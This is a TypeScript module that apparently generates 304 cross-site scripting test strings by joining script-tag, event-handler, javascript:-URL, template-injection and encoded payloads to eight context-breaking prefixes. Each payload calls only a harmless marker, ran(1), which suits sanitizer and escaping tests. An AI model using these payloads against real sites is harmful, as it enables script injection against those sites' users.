// Texts that try to become code wherever they are put down: in markup, in an attribute, in a script, in an address.

/** Each runs, in a place that lets it, `ran(1)`. */
const SEEDS = [
  "<script>ran(1)</script>",
  "<ScRiPt>ran(1)</sCrIpT>",
  "<script/x>ran(1)</script>",
  "<script src=data:,ran(1)></script>",
  "<img src=x onerror=ran(1)>",
  "<img/src=x/onerror=ran(1)>",
  '<img src="x" onerror="ran(1)"//',
  "<svg onload=ran(1)>",
  "<svg><script>ran(1)</script></svg>",
  "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
  "<math><mtext></p><img src=x onerror=ran(1)>",
  "<body onload=ran(1)>",
  "<details open ontoggle=ran(1)>",
  "<video><source onerror=ran(1)></video>",
  "<audio src=x onerror=ran(1)>",
  "<input autofocus onfocus=ran(1)>",
  "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
  "<iframe src=javascript:parent.ran(1)></iframe>",
  "<object data=javascript:ran(1)>",
  "<embed src=javascript:ran(1)>",
  "<a href=javascript:ran(1) autofocus>x</a>",
  "<form action=javascript:ran(1)><button>x</button></form>",
  "<base href=javascript:ran(1)//>",
  "<link rel=stylesheet href=data:text/css,*{color:red}>",
  "<style>@import 'javascript:ran(1)'</style>",
  "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
  "<template><script>ran(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
  "x onmouseover=ran(1) autofocus tabindex=0 onfocus=ran(1) x=",
  "javascript:ran(1)",
  "data:text/html,<script>parent.ran(1)</script>",
  "${ran(1)}",
  "{{constructor.constructor('ran(1)')()}}",
  "\\u003cimg src=x onerror=ran(1)\\u003e",
  "&lt;img src=x onerror=ran(1)&gt;",
  "&#60;script&#62;ran(1)&#60;/script&#62;",
  "%3Cscript%3Eran(1)%3C/script%3E",
  "';ran(1);//",
];

/** What closes the place a text may have been put into. */
const OPENERS = ["", '">', "'>", "-->", "</script>", "</title></style></textarea>", "]]>", "`);"];

/** Three hundred and four of them, all different and each short enough for every field. */
export const HOSTILE_TEXTS: readonly string[] = OPENERS.flatMap((opener) => SEEDS.map((seed) => opener + seed));
